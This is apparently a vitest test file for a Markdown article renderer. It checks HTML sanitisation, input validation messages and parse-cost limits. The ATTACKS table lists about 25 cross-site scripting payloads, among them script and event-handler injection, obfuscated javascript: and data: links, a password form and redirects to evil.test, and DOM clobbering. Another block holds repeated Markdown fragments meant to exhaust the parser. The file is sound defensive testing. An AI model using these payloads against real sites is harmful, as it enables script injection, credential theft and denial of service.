import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { describe, expect, it, test } from 'vitest';
import { markdownHtml } from '@/components/ui/markdown-html';
import { MOST_EFFORT, markdownEffort } from '@/lib/markdown-effort';
import { tooMuchFor } from '@/lib/rules/checks/knowledge';
import { ArticleContent, LONGEST_ARTICLE } from '@/lib/rules/kinds/article';
import { KnownErrorContent } from '@/lib/rules/kinds/known-error';

type Node = { type: string; tagName?: string; properties?: Record<string, unknown>; children?: Node[] };

/** Everything a browser would make of it. */
function elements(html: string): Node[] {
  const flat = (node: Node): Node[] => [node, ...(node.children ?? []).flatMap(flat)];
  return flat(unified().use(rehypeParse, { fragment: true }).parse(html) as Node).filter((node) => node.tagName);
}

const SAFE = /^(https?:|mailto:|irc:|ircs:|xmpp:|#|\/|$)/i;

// biome-ignore format: one attack a line
const ATTACKS: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  'a handler on a picture': '<img src=x onerror=alert(1)>',
  'a handler on what is allowed': '<p onclick="alert(1)">x</p><details ontoggle=alert(1) open>',
  'a javascript link': '[x](javascript:alert(1))',
  'a javascript link with white space': '[x](java\nscript:alert(1)) [y](  JaVaScRiPt:alert(1))',
  'a javascript link in entities': '[x](&#106;avascript&colon;alert(1)) [y](javascript&#58;alert(1))',
  'a link of data': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a link of vbscript': '[x](vbscript:msgbox(1)) <vbscript:alert(1)>',
  'a picture of javascript': '![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2Zz4=)',
  'a reference that turns': '[x]\n\n[x]: javascript:alert(1)',
  'an autolink': '<javascript:alert(1)> <data:text/html,x>',
  'a frame': '<iframe src="https://evil.test"></iframe><object data=x></object><embed src=x>',
  'a picture with a script in it': '<svg onload=alert(1)><script>alert(1)</script></svg>',
  'mathematics with a link': '<math><mtext></mtext><a href="javascript:alert(1)">x</a></math>',
  'a form that asks for a password': '<form action="https://evil.test"><input name=password type=password><button>Go</button></form>',
  'a style that covers the page': '<style>*{display:none}</style><div style="position:fixed;inset:0">x</div>',
  'a base that moves every link': '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=//evil.test">',
  'a name that shadows the page': '<a id="csrf" name="cookie">x</a><img id="location">',
  'a tag that never ends': '<img src="x` `<script>alert(1)</script>"` `>',
  'a comment that ends early': '<!--><script>alert(1)</script>-->',
  'a template and a slot': '<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>',
  'code that wants out': '```html\n</code></pre><script>alert(1)</script>\n```\n\n`</code><script>alert(1)</script>`',
  'a table with a handler': '| a |\n| - |\n| <td onmouseover=alert(1)>x |',
  'a footnote': 'x[^1]\n\n[^1]: [y](javascript:alert(1))',
};

describe('what is written into an article is text, whatever it tries', () => {
  it.each(Object.entries(ATTACKS))('%s', (_name, attack) => {
    for (const source of [attack, `> ${attack}`, `1. ${attack}`, `**${attack}**`]) {
      const html = markdownHtml(source);
      if (html === null) continue;
      for (const { tagName, properties = {} } of elements(html)) {
        expect(tagName).not.toMatch(
          /^(script|style|iframe|object|embed|svg|math|form|input|button|base|meta|link|template|noscript)$/,
        );
        for (const [name, value] of Object.entries(properties)) {
          expect(name.toLowerCase()).not.toMatch(/^on|^style$|^srcset$|^formaction$/);
          if (name === 'href' || name === 'src') expect(String(value)).toMatch(SAFE);
          if (name === 'id' || name === 'name') expect(String(value)).toMatch(/^user-content-/);
        }
      }
    }
  });
});

describe('what is too much is refused in words', () => {
  const article = { title: 'x', summary: 'y', body: 'z' };
  const said = (content: object) => ArticleContent.safeParse({ ...article, ...content }).error?.issues[0]?.message;

  it.each([
    ['an article of 5 MB', { body: 'x'.repeat(5_000_000) }, 'The article is too long; at most 50,000 characters'],
    ['an empty one', { body: '   ' }, 'The article is missing; write something'],
    [
      'control characters',
      { body: 'a\u0000b' },
      'Remove the control characters; only text, tabs and line breaks are taken',
    ],
    [
      'half a character',
      { title: '\uD800' },
      'Remove the control characters; only text, tabs and line breaks are taken',
    ],
    ['a title of two lines', { title: 'a\nb' }, 'The title has to be one line'],
    ['another audience', { audience: 'everybody' }, 'The audience is internal or public'],
  ])('%s', (_name, content, message) => expect(said(content)).toBe(message));

  test('a known error in the same way', () => {
    const refused = KnownErrorContent.safeParse({ title: 'x', symptom: 'y', workaround: 'x'.repeat(10_001) });
    expect(refused.error?.issues[0]?.message).toBe('The workaround is too long; at most 10,000 characters');
    expect(KnownErrorContent.safeParse({ title: 'x', symptom: 'y', workaroundUntil: 'soon' }).success).toBe(false);
  });

  test('the longest article of ordinary words is still shown as Markdown', () => {
    const paragraph = `${'Open the settings and look at what is there, then go on. '.repeat(8)}**Save** it.\n\n`;
    expect(markdownHtml(paragraph.repeat(LONGEST_ARTICLE / paragraph.length))).toContain('<strong>Save</strong>');
  });
});

describe('no text takes the server’s time', () => {
  // biome-ignore format: one piece of the grammar a line
  const PIECES = [
    '**x** ', '**x**\n', '*_', '* a ', '*a ', 'a** ', '[', '[a](', '[a](b) ', '`a ', '> a\na\n\n', '- a\n', '1. a\n', '|x|\n', '<a ',
    '&amp;', '~a~ ', 'a\n\n', '# a\n', '[^1] ', 'http://a.bc ', 'a@b.c ', '***a*** ', '![', '[a]: b\n', 'www.', '- [ ] a\n', '<!--', 'a\n=\n',
    '- - - - - - - - a\n', '> - > - > - a\n', '- a\n  - a\n    - a\n',
  ];

  // Parsing is counted by what it has to look at, so that a busy machine changes nothing.
  it.each(PIECES)('%j, as long as it may be, costs too much and is not parsed', (piece) => {
    const attack = piece.repeat(LONGEST_ARTICLE / piece.length);
    expect(markdownEffort(attack)).toBeGreaterThan(MOST_EFFORT);
    expect(markdownHtml(attack)).toBeNull();
    expect(tooMuchFor('body', attack)).toEqual([['body', expect.stringMatching(/make several articles of it/)]]);
  });

  it('a rule of many hyphens and a list some levels deep are honest work', () => {
    const section = `Settings\n${'-'.repeat(60)}\n\n- Open\n  - the tray\n    - and look\n      - inside\n\n${'-'.repeat(40)}\n\n`;
    expect(markdownEffort(section.repeat(40))).toBeLessThan(MOST_EFFORT);
    expect(markdownHtml(section)).toContain('<hr>');
  });

  it('where the cost grows faster than the text, little of it is enough', () => {
    for (const short of ['*_'.repeat(400), `> a\n${'a\n'.repeat(200)}`, '> '.repeat(40), '[a]('.repeat(400)])
      expect(markdownEffort(short)).toBe(Number.POSITIVE_INFINITY);
  });
});
